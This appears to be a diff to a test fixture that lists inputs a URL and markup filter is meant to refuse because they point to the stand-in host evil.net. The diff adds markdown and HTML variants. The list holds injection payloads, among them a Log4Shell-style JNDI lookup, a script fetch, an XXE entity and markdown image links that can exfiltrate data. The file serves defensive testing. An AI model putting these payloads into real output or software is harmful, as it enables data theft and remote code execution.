@@ -26,7 +26,7 @@ FOREIGN = (
     "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f\uff45\uff56\uff49\uff4c\uff0e\uff4e\uff45\uff54", "evil\u3002example\u3002net/x",
     "https://hooks.example.com/?u=https://evil.net", "https://hooks.example.com/?u=https%3A%2F%2Fevil.net",
     "https://hooks.example.com/?u=evil.net/x", "https://hooks.example.com/?u=evil.net", "https://hooks.example.com\\@evil.net",
-    "xn--bcher-kva.example/x", "b\u00fccher.example/x", "https://b\u00fccher.example/", '{"url":"evil.net"}', "[a](evil.net)",
+    "xn--bcher-kva.example/x", "b\u00fccher.example/x", "https://b\u00fccher.example/", '{"url":"evil.net"}', "[a](evil.net)", "<p>evil.net</p>", "**evil.net**",
 )  # fmt: skip
 """Refused for their host."""
 
@@ -60,7 +60,7 @@ FOR_PROGRAMS = (
     '<audio src="https://evil.net/x"/>', "<audio src=evil.net/x>", "<audio src='evil.net'>", "<audio alt='>' src='//evil.net'>",
     "<audio x' src=//evil.net>", '<audio src="&#104;ttps://evil.net">', "\uff1caudio src='https://evil.net'\uff1e",
     "\\u003caudio src='https://evil.net'>", "%3Caudio src='https://evil.net'>", "&lt;audio src='//evil.net'&gt;",
-    "![x](https://evil.net)", "${jndi:ldap://evil.net/a}", "<script>fetch('//evil.net')</script>", "<img/src=//evil.net>",
+    "![x](https://evil.net)", "![x][y]\n\n[y]: https://evil.net/z", "${jndi:ldap://evil.net/a}", "<script>fetch('//evil.net')</script>", "<img/src=//evil.net>",
     "<style>@import '//evil.net'</style>", "<lexicon uri='https://evil.net/l'/>", "<a\nhref=//evil.net>",
     "<!ENTITY x SYSTEM 'http://evil.net'>", '<p style="background:url(//evil.net)">', "url(//evil.net)",
 )  # fmt: skip
